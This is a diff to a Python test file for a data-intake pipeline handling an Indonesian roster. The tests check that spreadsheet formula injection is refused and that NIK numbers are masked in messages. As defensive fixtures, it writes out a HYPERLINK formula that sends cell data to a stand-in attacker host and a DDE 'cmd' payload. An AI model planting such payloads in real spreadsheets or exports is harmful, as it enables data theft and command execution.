@@ -431,15 +431,30 @@ def test_formula_text_reaches_no_csv_as_a_live_formula(tmp_path, small, monkeypa
     monkeypatch.setenv(ENV_KEY, KEY_A)
     d = small.write(tmp_path / "raw")
     roster = pd.read_csv(d / "roster.csv", dtype=str, keep_default_na=False)
+    clean = roster.copy()
     roster.loc[0, "village"] = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
     roster.loc[1, "village"] = "@SUM(1+1)*cmd|' /C calc'!A0"
-    roster.loc[2, "subdistrict"] = "+1+1"
+    roster.loc[2, "village"] = "-" + roster.loc[2, "village"]
     roster.to_csv(d / "roster.csv", index=False)
-    out, _ = prepare(d, tmp_path / "processed")
-    back = pd.read_csv(out / "roster.csv", dtype=str, keep_default_na=False)
-    cells = set(back["village"]) | set(back["subdistrict"])
-    assert {"'" + roster.loc[0, "village"], "'" + roster.loc[1, "village"], "'+1+1"} <= cells
-    assert not [c for col in back for c in back[col] if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # a village is a code (region.kecamatan.desa): formula text there is refused at intake, never processed
+    with pytest.raises(ValidationFailed):
+        prepare(d, tmp_path / "processed")
+    assert not (tmp_path / "processed").exists() or not any((tmp_path / "processed").iterdir())
+    problems = pd.read_csv(d / "validation_problems.csv", dtype=str, keep_default_na=False)
+    hit = problems[problems["rule"] == "village_code"]
+    assert sorted(hit["row"].astype(int)) == [2, 3, 4]
+    assert not [c for col in problems for c in problems[col] if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # the subdistrict is a code too: formula text there is refused the same way, named by file, row and column
+    clean.loc[2, "subdistrict"] = "+1+1"
+    clean.loc[3, "subdistrict"] = clean.loc[3, "subdistrict"] + " Budi Santoso"
+    clean.to_csv(d / "roster.csv", index=False)
+    with pytest.raises(ValidationFailed):
+        prepare(d, tmp_path / "processed2")
+    problems = pd.read_csv(d / "validation_problems.csv", dtype=str, keep_default_na=False)
+    hit = problems[(problems["rule"] == "village_code") & (problems["column"] == "subdistrict")]
+    assert sorted(hit["row"].astype(int)) == [4, 5]
+    assert "Budi" not in problems.to_csv() and not problems["value"].str.startswith("+").any()
+    roster = clean
     # the problem list: a category value that is a formula
     roster.loc[3, "group"] = "=1+2"
     roster.to_csv(d / "roster.csv", index=False)
@@ -536,3 +551,15 @@ def test_kind_2_to_5_leave_no_processed_copy_of_a_failed_data_set(tmp_path, smal
     with pytest.raises(UserError, match=r"not written by the generator: roster_copy_notes\.txt"):
         prepare(d, tmp_path / "processed")
     assert not (tmp_path / "processed").exists()
+
+
+def test_a_nik_read_as_a_number_is_masked_in_the_message_too():
+    """A NIK read as a number ('3.40299e+15 is outside the allowed range') is masked in the message too.
+
+    Numbers of 10 digits or more in scientific notation are masked in problem messages; small ones are kept.
+    """
+    from evaluation.intake.patterns import mask_value
+
+    assert mask_value("3.40299e+15 is outside the allowed range") == "*.*****e+** is outside the allowed range"
+    assert mask_value("3.17101E+15") == "*.*****E+**" and mask_value("1.5e+03 read") == "1.5e+03 read"
+    assert mask_value("1250000") == "1250000"
